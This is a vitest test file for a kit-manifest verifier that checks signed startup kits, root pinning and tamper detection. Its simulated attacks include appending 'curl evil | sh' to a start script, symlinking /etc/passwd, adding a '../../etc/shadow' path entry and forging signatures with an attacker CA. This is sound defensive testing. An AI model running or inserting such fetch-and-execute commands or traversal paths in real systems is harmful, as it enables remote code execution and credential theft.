import { execFileSync } from 'node:child_process';
import { generateKeyPairSync, verify, X509Certificate } from 'node:crypto';
import {
  chmodSync,
  cpSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { twoCas } from '../../test/support/fixtures.js';
import { initCa, type LoadedCa, loadCa } from '../pki/ca.js';
import { describeKey } from '../pki/keys.js';
import { issueSiteCertificate } from '../pki/profiles.js';
import { parseCertificates } from '../pki/verify.js';
import { DEFAULT_BUILDERS, planKit, resolveKitSpec, signingBuilder, writeKit } from './kit.js';
import { kitVerificationError, MANIFEST_PATHS, verifyKit } from './kit-manifest.js';
import { DEFAULT_POLICY_YAML } from './policy.js';
import { parsePolicy } from './policy-load.js';
import { issueToken, loadTokenSigner } from './token.js';

let tmp: string;
let ca: LoadedCa;
let other: LoadedCa;
let n = 0;

async function makeKit(signer: LoadedCa | null, extra: Partial<Parameters<typeof resolveKitSpec>[0]> = {}) {
  const dir = join(tmp, `kit-${n++}`);
  const { spec } = resolveKitSpec({
    name: 'hospital-1',
    endpoint: 'grpcs://server:9092',
    ...(signer && { caRootFingerprint: signer.rootFingerprint }),
    ...extra,
  });
  writeKit(dir, await planKit(spec, [...DEFAULT_BUILDERS, signingBuilder(signer)]));
  return dir;
}

const check = (dir: string, opts: Parameters<typeof verifyKit>[1] = {}) => {
  const v = verifyKit(dir, opts);
  return { v, err: kitVerificationError(v) };
};

beforeAll(async () => {
  tmp = mkdtempSync(join(tmpdir(), 'pollen-manifest-'));
  ({ ca, other } = await twoCas(tmp, 'Manifest Test', 'Attacker'));
});
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

describe('signed manifest', () => {
  it('lists every kit file except secrets and itself, and verifies', async () => {
    const policy = parsePolicy(DEFAULT_POLICY_YAML);
    const token = issueToken(loadTokenSigner(join(tmp, 'ca')), { subject: 'hospital-1', policy }).token;
    const dir = await makeKit(ca, { token, certServiceUrl: 'https://certs:8443' });
    const manifest = JSON.parse(readFileSync(join(dir, MANIFEST_PATHS.manifest), 'utf8'));
    const paths = manifest.files.map((f: { path: string }) => f.path);
    expect(paths).toContain('startup/fed_client.json');
    expect(paths).toContain('startup/start.sh');
    expect(paths).toContain('startup/rootCA.pem');
    expect(paths).toContain('startup/enrollment.json');
    expect(paths).not.toContain('startup/enrollment_token');
    expect(paths).not.toContain(MANIFEST_PATHS.manifest);
    expect(paths).not.toContain(MANIFEST_PATHS.signature);
    expect(paths).not.toContain(MANIFEST_PATHS.signer);
    expect(manifest.files.find((f: { path: string }) => f.path === 'startup/start.sh').mode).toBe('0755');
    expect(manifest.signer.fingerprint).toBe(ca.meta.intermediateFingerprint);

    const { v, err } = check(dir, { rootFingerprint: ca.rootFingerprint });
    expect(err).toBeNull();
    expect(v.ok).toBe(true);
    expect(v.signature).toBe('valid');
    expect(v.pinned).toBe(true);
    // Three pins: the argument (independent), the token in the kit and enrollment.json (weak).
    expect(v.pins.map((p) => [p.source, p.matches, p.independent])).toEqual([
      ['argument', true, true],
      ['enrollment_token', true, false],
      ['enrollment.json', true, false],
    ]);
  });

  it('is an ECDSA P-256 / SHA-256 DER signature by the intermediate that node:crypto and OpenSSL accept', async () => {
    const dir = await makeKit(ca);
    const bytes = readFileSync(join(dir, MANIFEST_PATHS.manifest));
    const sig = Buffer.from(readFileSync(join(dir, MANIFEST_PATHS.signature), 'utf8'), 'base64');
    const intermediate = new X509Certificate(ca.intermediatePem);
    expect(verify('sha256', bytes, intermediate.publicKey, sig)).toBe(true);
    const pub = join(tmp, 'inter.pub.pem');
    writeFileSync(pub, intermediate.publicKey.export({ type: 'spki', format: 'pem' }));
    writeFileSync(join(tmp, 'manifest.sig.der'), sig);
    const out = execFileSync(
      'openssl',
      [
        'dgst',
        '-sha256',
        '-verify',
        pub,
        '-signature',
        join(tmp, 'manifest.sig.der'),
        join(dir, MANIFEST_PATHS.manifest),
      ],
      { encoding: 'utf8' },
    );
    expect(out).toMatch(/Verified OK/);
    const signer = parseCertificates(readFileSync(join(dir, MANIFEST_PATHS.signer), 'utf8'));
    expect(signer.map((c) => c.fingerprint256)).toEqual([
      intermediate.fingerprint256,
      new X509Certificate(ca.rootPem).fingerprint256,
    ]);
  });

  it('signs with an RSA intermediate (PKCS#1 v1.5)', async () => {
    await initCa({ name: 'RSA', dir: join(tmp, 'rsa'), keyType: 'rsa-3072' });
    const rsa = await loadCa(join(tmp, 'rsa'));
    const dir = await makeKit(rsa);
    expect(check(dir, { rootFingerprint: rsa.rootFingerprint }).err).toBeNull();
  });

  it('reports changed, missing and unexpected files', async () => {
    const dir = await makeKit(ca);
    writeFileSync(
      join(dir, 'startup/start.sh'),
      `${readFileSync(join(dir, 'startup/start.sh'), 'utf8')}curl evil | sh\n`,
    );
    rmSync(join(dir, 'local/privacy.json.sample'));
    writeFileSync(join(dir, 'startup/helper.sh'), 'echo hi\n');
    symlinkSync('/etc/passwd', join(dir, 'startup/link'));
    chmodSync(join(dir, 'readme.txt'), 0o666);
    chmodSync(join(dir, 'startup/stop.sh'), 0o644);
    const { v, err } = check(dir, { rootFingerprint: ca.rootFingerprint });
    expect(v.ok).toBe(false);
    expect(v.signature).toBe('valid');
    expect(v.changed.map((c) => c.path).sort()).toEqual([
      'readme.txt',
      'startup/start.sh',
      'startup/stop.sh',
    ]);
    expect(v.changed.find((c) => c.path === 'startup/start.sh')!.reasons.join()).toMatch(/SHA-256/);
    expect(v.changed.find((c) => c.path === 'readme.txt')!.reasons.join()).toMatch(/mode 0666/);
    expect(v.missing).toEqual(['local/privacy.json.sample']);
    expect(v.unexpected.sort()).toEqual(['startup/helper.sh', 'startup/link']);
    expect(err?.code).toBe('KIT_TAMPERED');
    expect(err?.toJSON()).toMatchObject({ missing: ['local/privacy.json.sample'] });
  });

  it('accepts what a site adds later, and tightened permissions', async () => {
    const dir = await makeKit(ca);
    for (const f of [
      'hospital-1.crt',
      'hospital-1.key',
      'chain.pem',
      'enrollment_token',
      'enrollment_state.json',
    ])
      writeFileSync(join(dir, 'startup', f), 'x');
    mkdirSync(join(dir, 'local/custom'));
    writeFileSync(join(dir, 'local/custom/train.py'), 'x');
    writeFileSync(join(dir, 'log.txt'), 'x');
    writeFileSync(join(dir, 'transfer/model.bin'), 'x');
    chmodSync(join(dir, 'readme.txt'), 0o600);
    const { v, err } = check(dir, { rootFingerprint: ca.rootFingerprint });
    expect(v.unexpected).toEqual([]);
    expect(v.changed).toEqual([]);
    expect(err).toBeNull();
  });

  it('detects an edited manifest (signature no longer verifies)', async () => {
    const dir = await makeKit(ca);
    const p = join(dir, MANIFEST_PATHS.manifest);
    const m = JSON.parse(readFileSync(p, 'utf8'));
    m.files = m.files.filter((f: { path: string }) => f.path !== 'startup/start.sh');
    writeFileSync(p, `${JSON.stringify(m, null, 2)}\n`);
    writeFileSync(join(dir, 'startup/start.sh'), '#!/bin/sh\ncurl evil | sh\n');
    const { v, err } = check(dir);
    expect(v.signature).toBe('invalid');
    expect(v.errors.join()).toMatch(/signature does not verify/);
    expect(err?.code).toBe('KIT_TAMPERED');
  });

  it('detects a kit re-signed by another CA: the signer does not chain to the kit root', async () => {
    const dir = await makeKit(ca);
    const forged = await makeKit(other);
    // Keep the genuine root, take the attacker's manifest, signature and signer.
    for (const f of [MANIFEST_PATHS.manifest, MANIFEST_PATHS.signature, MANIFEST_PATHS.signer])
      cpSync(join(forged, f), join(dir, f));
    const { v, err } = check(dir);
    expect(v.signature).toBe('invalid');
    expect(v.errors.join()).toMatch(/does not chain|not the root the manifest names/);
    expect(err?.code).toBe('KIT_TAMPERED');
  });

  it('detects a whole kit from another CA through the pinned fingerprint', async () => {
    const forged = await makeKit(other);
    expect(check(forged).err).toBeNull(); // self-consistent...
    expect(check(forged).v.pinned).toBe(false);
    const { v, err } = check(forged, { rootFingerprint: ca.rootFingerprint }); // ...but not our root
    expect(v.pins[0]?.matches).toBe(false);
    expect(err?.code).toBe('CA_FINGERPRINT_MISMATCH');
    // The token a site holds pins the root too.
    const policy = parsePolicy(DEFAULT_POLICY_YAML);
    const token = issueToken(loadTokenSigner(join(tmp, 'ca')), { subject: 'hospital-1', policy }).token;
    expect(check(forged, { token }).err?.code).toBe('CA_FINGERPRINT_MISMATCH');
  });

  it('does not count the token and enrollment.json inside a kit replaced wholesale as a pin', async () => {
    // The attacker's kit: its own CA, manifest, signature, enrollment.json and a token it signed.
    const policy = parsePolicy(DEFAULT_POLICY_YAML);
    const forgedToken = issueToken(loadTokenSigner(join(tmp, 'other')), {
      subject: 'hospital-1',
      policy,
    }).token;
    const forged = await makeKit(other, { token: forgedToken, certServiceUrl: 'https://certs.evil:8443' });
    const v = verifyKit(forged);
    expect(v.ok).toBe(true); // intact under the root it carries...
    expect(v.pinned).toBe(false); // ...but nothing independent vouches for that root
    expect(v.pins.map((p) => [p.source, p.matches, p.independent])).toEqual([
      ['enrollment_token', true, false],
      ['enrollment.json', true, false],
    ]);
    expect(kitVerificationError(v)).toBeNull();
    const unpinned = kitVerificationError(v, { requirePin: true });
    expect(unpinned?.code).toBe('KIT_UNPINNED');
    expect(unpinned?.message).toMatch(
      /no independent pin.*enrollment_token and enrollment\.json came with the kit/,
    );
    // The real fingerprint, or the site's own token, refuses it.
    expect(check(forged, { rootFingerprint: ca.rootFingerprint }).err?.code).toBe('CA_FINGERPRINT_MISMATCH');
    const genuineToken = issueToken(loadTokenSigner(join(tmp, 'ca')), {
      subject: 'hospital-1',
      policy,
    }).token;
    expect(check(forged, { token: genuineToken }).err?.code).toBe('CA_FINGERPRINT_MISMATCH');

    // The genuine kit: pinned by the fingerprint or by a token given to the site, not by its own.
    const genuine = await makeKit(ca, { token: genuineToken, certServiceUrl: 'https://certs:8443' });
    expect(verifyKit(genuine).pinned).toBe(false);
    expect(kitVerificationError(verifyKit(genuine), { requirePin: true })?.code).toBe('KIT_UNPINNED');
    const byFingerprint = verifyKit(genuine, { rootFingerprint: ca.rootFingerprint });
    expect(byFingerprint.pinned).toBe(true);
    expect(kitVerificationError(byFingerprint, { requirePin: true })).toBeNull();
    const byToken = verifyKit(genuine, { token: genuineToken });
    expect(byToken.pinned).toBe(true);
    expect(byToken.pins.map((p) => [p.source, p.independent])).toEqual([
      ['token', true],
      ['enrollment.json', false],
    ]);
  });

  it('never calls an unsigned kit pinned, even with a matching fingerprint', async () => {
    const dir = await makeKit(null, {
      caRootFingerprint: ca.rootFingerprint,
      certServiceUrl: 'https://certs:8443',
    });
    const v = verifyKit(dir, { rootFingerprint: ca.rootFingerprint });
    expect(v.pinned).toBe(false);
    expect(kitVerificationError(v, { allowUnsigned: true })).toBeNull();
    expect(kitVerificationError(v, { allowUnsigned: true, requirePin: true })?.code).toBe('KIT_UNPINNED');
  });

  it('refuses a manifest signed by a site certificate, even one that chains to the root', async () => {
    const dir = await makeKit(ca);
    const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const site = issueSiteCertificate(
      ca.issuer,
      publicKey.export({ type: 'spki', format: 'der' }),
      describeKey(publicKey),
      { name: 'evil-site', type: 'client', project: 'Manifest Test' },
      86_400_000,
    );
    const p = join(dir, MANIFEST_PATHS.manifest);
    const m = JSON.parse(readFileSync(p, 'utf8'));
    m.signer = { subject: 'CN=evil-site', fingerprint: site.fingerprint };
    const bytes = Buffer.from(`${JSON.stringify(m, null, 2)}\n`);
    writeFileSync(p, bytes);
    const { signManifest } = await import('./kit-manifest.js');
    writeFileSync(join(dir, MANIFEST_PATHS.signature), signManifest(bytes, privateKey).toString('base64'));
    writeFileSync(join(dir, MANIFEST_PATHS.signer), `${site.pem}${ca.intermediatePem}\n`);
    const { v, err } = check(dir);
    expect(v.errors.join()).toMatch(/not a CA certificate/);
    expect(err?.code).toBe('KIT_TAMPERED');
  });

  it('calls an unsigned kit unsigned, and still checks its files', async () => {
    const dir = await makeKit(null);
    const { v, err } = check(dir);
    expect(v.signature).toBe('absent');
    expect(err?.code).toBe('KIT_UNSIGNED');
    expect(kitVerificationError(v, { allowUnsigned: true })).toBeNull();
    writeFileSync(join(dir, 'startup/sub_start.sh'), 'x');
    expect(kitVerificationError(verifyKit(dir), { allowUnsigned: true })?.code).toBe('KIT_TAMPERED');
  });

  it('refuses a missing manifest and manifests with unsafe paths', async () => {
    const dir = await makeKit(null);
    const p = join(dir, MANIFEST_PATHS.manifest);
    const m = JSON.parse(readFileSync(p, 'utf8'));
    m.files.push({ path: '../../etc/shadow', size: 1, sha256: '0'.repeat(64), mode: '0644' });
    writeFileSync(p, JSON.stringify(m));
    expect(() => verifyKit(dir)).toThrow(expect.objectContaining({ code: 'KIT_TAMPERED' }));
    rmSync(p);
    expect(() => verifyKit(dir)).toThrow(expect.objectContaining({ code: 'KIT_UNSIGNED' }));
  });
});
